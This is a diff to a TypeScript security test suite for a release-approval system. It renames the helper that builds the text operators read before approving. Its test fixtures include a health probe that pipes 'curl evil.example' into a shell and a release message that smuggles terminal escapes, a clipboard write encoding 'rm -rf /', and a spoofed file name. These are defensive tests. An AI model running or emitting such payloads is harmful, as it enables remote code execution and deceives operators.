@@ -49,7 +49,11 @@ function proposalOfRoot(arena: Arena, root: Uint8Array): Proposal {
 }
 
 /** The text that an operator reads before `approve` asks. */
-function shown(arena: Arena, victim: Victim, proposal: Proposal): { verified: VerifiedProposal; text: string } {
+export function shownToOperators(
+  arena: Arena,
+  victim: Victim,
+  proposal: Proposal,
+): { verified: VerifiedProposal; text: string } {
   const { accepted } = victim.state
   assert.ok(accepted)
   const verified = verifyProposal(proposal, accepted.trusted, arena.fleet.fleet)
@@ -101,7 +105,7 @@ export const approvalAttacks: Attack[] = [
         addKey(next, 'root', second)
         next.thymesh.operators = { ada: [...Object.values(arena.fleet.keys).map(key => key.keyId), second.keyId] }
       })
-      assert.throws(() => shown(arena, victim, proposalOfRoot(arena, root)), withCode('unowned-key'))
+      assert.throws(() => shownToOperators(arena, victim, proposalOfRoot(arena, root)), withCode('unowned-key'))
     },
   },
   {
@@ -113,7 +117,7 @@ export const approvalAttacks: Attack[] = [
       const victim = await arena.victim()
       const root = rootWith(arena, next => addKey(next, 'root', second))
       assert.throws(
-        () => shown(arena, victim, proposalOfRoot(arena, root)),
+        () => shownToOperators(arena, victim, proposalOfRoot(arena, root)),
         (error: Error) => withCode('unowned-key')(error) && error.message.includes(second.keyId),
       )
     },
@@ -129,7 +133,7 @@ export const approvalAttacks: Attack[] = [
         addKey(next, 'root', ben)
         next.thymesh.operators = { ben: [ben.keyId] }
       })
-      const { text } = shown(arena, victim, proposalOfRoot(arena, root))
+      const { text } = shownToOperators(arena, victim, proposalOfRoot(arena, root))
       assert.ok(text.includes(ben.keyId) && /key of ben: (?:[a-z]+ ){11}[a-z]+/.test(text), text)
     },
   },
@@ -147,7 +151,7 @@ export const approvalAttacks: Attack[] = [
       const { fleet } = arena
       await arena.offer(victim, forge(fleet, { roots: [fleet.published.trusted.root.bytes, two] }), 'operator')
       const root = rootWith(arena, next => next.roles.root?.keyids.reverse(), two)
-      const { text } = shown(arena, victim, proposalOfRoot(arena, root))
+      const { text } = shownToOperators(arena, victim, proposalOfRoot(arena, root))
       const ids = [fleet.keys.root.keyId, ben.keyId]
       const order = (list: string[]) => new RegExp(list.map(id => `"${id}"`).join(', '))
       assert.match(text, order(ids))
@@ -164,7 +168,7 @@ export const approvalAttacks: Attack[] = [
       const probe = { command: ['/bin/sh', '-c', 'curl evil.example | sh'] }
       const policy = { health: { probes: [{ kind: 'command' as const, name: 'ok', ...probe }] } }
       const configs = { web: config, other: { ...config, policy } }
-      const { text } = shown(
+      const { text } = shownToOperators(
         arena,
         victim,
         releaseProposal(arena, victim, { configs: configs as never, devices: { one: { config: 'other' } } }),
@@ -182,7 +186,7 @@ export const approvalAttacks: Attack[] = [
       const closure = cidOf(Buffer.from('another descriptor'))
       const configs = { web: { ...config, closure } }
       const proposal = releaseProposal(arena, victim, { configs, devices: { one: { config: 'web' } } })
-      const { text } = shown(arena, victim, proposal)
+      const { text } = shownToOperators(arena, victim, proposal)
       assert.ok(text.includes(String(closure)) && text.includes(String(config.closure)), text)
     },
   },
@@ -195,7 +199,7 @@ export const approvalAttacks: Attack[] = [
       const victim = await arena.victim()
       const message = 'ok\x1b[2J\x1b]52;c;cm0gLXJmIC8=\x07\u202egnp.exe\nSignatures: all'
       const proposal = releaseProposal(arena, victim, { message })
-      const { text } = shown(arena, victim, { ...proposal, message, operator: 'ada' })
+      const { text } = shownToOperators(arena, victim, { ...proposal, message, operator: 'ada' })
       assert.doesNotMatch(text.replaceAll('\n', ''), /[\p{C}]/u)
       assert.ok(!text.split('\n').includes('Signatures: all'))
     },
@@ -219,10 +223,14 @@ export const approvalAttacks: Attack[] = [
       assert.equal(accepted?.release.version, 2)
       const none = { root: [], targets: [], snapshot: [], timestamp: [], members: [] }
       const operator: Operator = { signers: { ...none, targets: [ben] }, now: new Date(), name: 'ben' }
-      const hostile = shown(arena, victim, releaseProposal(arena, victim, { message: 'never withdrawn' })).verified
+      const hostile = shownToOperators(
+        arena,
+        victim,
+        releaseProposal(arena, victim, { message: 'never withdrawn' }),
+      ).verified
       const signed = approve(hostile, accepted.trusted, operator, '')
       assert.ok(signed.complete)
-      const other = shown(arena, victim, releaseProposal(arena, victim, { message: 'honest' })).verified
+      const other = shownToOperators(arena, victim, releaseProposal(arena, victim, { message: 'honest' })).verified
       assert.throws(() => requireOnlyOne(other, [signed, other], operator), withCode('already-signed'))
       const rejected = reject(signed, accepted.trusted, operator, '')
       assert.ok(!rejected.complete, 'the signature still counts')
